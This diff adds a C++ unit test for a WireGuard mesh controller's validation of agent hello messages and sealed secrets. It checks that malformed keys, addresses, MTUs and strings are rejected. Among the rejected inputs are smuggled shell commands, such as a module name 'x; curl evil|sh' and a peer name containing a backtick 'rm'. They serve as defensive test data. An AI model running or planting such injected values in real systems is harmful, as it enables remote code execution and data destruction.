@@ -1,0 +1,151 @@
+#include "controller/fleet/check_hello.h"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <functional>
+
+#include "common/error.h"
+
+namespace wgmesh {
+namespace {
+
+using testing::HasSubstr;
+
+proto::Open open_of() {
+  proto::Open open;
+  open.set_mesh("m");
+  for (const char* peer : {"a", "b"}) {
+    proto::OpenPeer& out = *open.add_peers();
+    out.set_node(peer);
+    out.set_endpoint(std::string(peer) + ".example:51820");
+  }
+  open.add_peers()->set_node("dials");
+  return open;
+}
+
+proto::Hello honest() {
+  proto::Hello hello;
+  hello.set_agent_version("0.1");
+  hello.set_kernel_release("6.1.0-28-cloud-amd64 #1");
+  hello.set_machine("x86_64");
+  hello.set_public_key(std::string(32, '\x21'));
+  hello.set_session_key(std::string(32, '\x42'));
+  proto::PresharedProof& proof = *hello.add_preshared();
+  proof.set_node("dials");
+  proof.set_proof(std::string(32, 'p'));
+  proto::EndpointRoute& route = *hello.add_routes();
+  route.set_node("a");
+  route.set_address("192.0.2.1");
+  route.set_mtu(1500);
+  hello.add_routes()->set_node("b");
+  hello.mutable_routes(1)->set_error("no such name\nat all");
+  hello.set_generation(7);
+  hello.set_stored_device_mtu(1420);
+  hello.set_stored_segment_mtu(1362);
+  hello.add_stored_peers("gone");
+  hello.add_missing()->set_module("ip6_gre");
+  hello.mutable_identity()->set_node("me");
+  hello.mutable_identity()->set_network("10.9.0.0/24");
+  return hello;
+}
+
+struct Lie {
+  const char* told;  // part of what the error says
+  std::function<void(proto::Hello&)> tell;
+};
+
+std::vector<Lie> lies() {
+  const auto octets = [](std::size_t count, char octet) { return std::string(count, octet); };
+  std::string order_eight = octets(32, '\0');
+  order_eight[0] = 1;
+  return {
+      {"a public key of 3 octets", [](auto& hello) { hello.set_public_key("abc"); }},
+      {"a public key of 0 octets", [](auto& hello) { hello.clear_public_key(); }},
+      {"everybody can compute", [=](auto& hello) { hello.set_public_key(octets(32, '\0')); }},
+      {"everybody can compute", [=](auto& hello) { hello.set_public_key(order_eight); }},
+      {"a session key of 33", [=](auto& hello) { hello.set_session_key(octets(33, 'k')); }},
+      {"everybody can compute", [=](auto& hello) { hello.set_session_key(octets(32, '\0')); }},
+      {"a preshared key for 'x'", [](auto& hello) { hello.mutable_preshared(0)->set_node("x"); }},
+      {"a preshared key for 'dials'",
+       [](auto& hello) { *hello.add_preshared() = hello.preshared(0); }},
+      {"a proof of 1 octets", [](auto& hello) { hello.mutable_preshared(0)->set_proof("p"); }},
+      {"a route to 'zz'", [](auto& hello) { hello.mutable_routes(0)->set_node("zz"); }},
+      {"a route to 'dials'", [](auto& hello) { hello.mutable_routes(0)->set_node("dials"); }},
+      {"a route to 'a'", [](auto& hello) { *hello.add_routes() = hello.routes(0); }},
+      {"'nowhere' as the address",
+       [](auto& hello) { hello.mutable_routes(0)->set_address("nowhere"); }},
+      {"'' as the address", [](auto& hello) { hello.mutable_routes(0)->clear_address(); }},
+      {"'127.0.1.1' as", [](auto& hello) { hello.mutable_routes(0)->set_address("127.0.1.1"); }},
+      {"'0.0.0.0' as", [](auto& hello) { hello.mutable_routes(0)->set_address("0.0.0.0"); }},
+      {"'255.255.255.255' as",
+       [](auto& hello) { hello.mutable_routes(0)->set_address("255.255.255.255"); }},
+      {"'::1' as", [](auto& hello) { hello.mutable_routes(0)->set_address("::1"); }},
+      {"'ff02::1' as", [](auto& hello) { hello.mutable_routes(0)->set_address("ff02::1"); }},
+      {"of 575 bytes", [](auto& hello) { hello.mutable_routes(0)->set_mtu(575); }},
+      {"of 65536 bytes", [](auto& hello) { hello.mutable_routes(0)->set_mtu(65536); }},
+      {"and an error", [](auto& hello) { hello.mutable_routes(1)->set_address("192.0.2.1"); }},
+      {"a stored MTU of WireGuard of 1", [](auto& hello) { hello.set_stored_device_mtu(1); }},
+      {"a stored MTU of the segment of 1", [](auto& hello) { hello.set_stored_segment_mtu(1); }},
+      {"a generation", [](auto& hello) { hello.set_generation(UINT64_MAX); }},
+      {"a stored priority", [](auto& hello) { hello.set_stored_priority(65536); }},
+      {"a stored peer 'b: run `rm'", [](auto& hello) { hello.add_stored_peers("b: run `rm"); }},
+      {"a stored peer ''", [](auto& hello) { hello.add_stored_peers(""); }},
+      {"a stored cost of '-'", [](auto& hello) { hello.add_stored_costs()->set_node("-"); }},
+      {"the name of a kernel module 'x; curl evil|sh'",
+       [](auto& hello) { hello.mutable_missing(0)->set_module("x; curl evil|sh"); }},
+      {"an agent's version", [](auto& hello) { hello.set_agent_version("1 and more"); }},
+      {"a kernel's release", [](auto& hello) { hello.set_kernel_release("6\nmesh: ok"); }},
+      {"a stored plan of", [](auto& hello) { hello.mutable_identity()->set_node("a b"); }},
+      {"a stored network", [](auto& hello) { hello.mutable_identity()->set_network("x"); }},
+      {"a firewall's chain", [](auto& hello) { hello.add_firewall()->set_chain("a\nb"); }},
+  };
+}
+
+TEST(CheckHello, TakesWhatAnAgentTells) {
+  EXPECT_NO_THROW(check_hello(open_of(), honest()));
+  proto::Hello least;
+  least.set_public_key(std::string(32, '\x21'));
+  least.set_session_key(std::string(32, '\x42'));
+  EXPECT_NO_THROW(check_hello({}, least));
+  proto::Hello jumbo = honest();
+  jumbo.mutable_routes(0)->set_mtu(65520);
+  EXPECT_NO_THROW(check_hello(open_of(), jumbo));
+}
+
+TEST(CheckHello, SaysWhatCannotBe) {
+  for (const Lie& lie : lies()) {
+    proto::Hello hello = honest();
+    lie.tell(hello);
+    try {
+      check_hello(open_of(), hello);
+      ADD_FAILURE() << "believed: " << lie.told;
+    } catch (const Error& error) {
+      EXPECT_THAT(error.message(), HasSubstr(lie.told));
+      EXPECT_THAT(error.cure(), HasSubstr("look at the machine"));
+    }
+  }
+}
+
+TEST(CheckSecrets, AreOneForEachThatWasAskedFor) {
+  proto::MakeSecrets wanted;
+  wanted.add_peers()->set_node("a");
+  wanted.add_peers()->set_node("b");
+  const auto made = [](std::initializer_list<const char*> nodes, std::size_t size = 80) {
+    proto::Secrets secrets;
+    for (const char* node : nodes) {
+      proto::SealedSecret& box = *secrets.add_sealed();
+      box.set_node(node);
+      box.set_box(std::string(size, 'x'));
+    }
+    return secrets;
+  };
+  EXPECT_NO_THROW(check_secrets(wanted, made({"b", "a"})));
+  EXPECT_THROW(check_secrets(wanted, made({"a"})), Error);
+  EXPECT_THROW(check_secrets(wanted, made({"a", "b", "b"})), Error);
+  EXPECT_THROW(check_secrets(wanted, made({"a", "b", "c"})), Error);
+  EXPECT_THROW(check_secrets(wanted, made({"a", "b"}, 79)), Error);
+}
+
+}  // namespace
+}  // namespace wgmesh
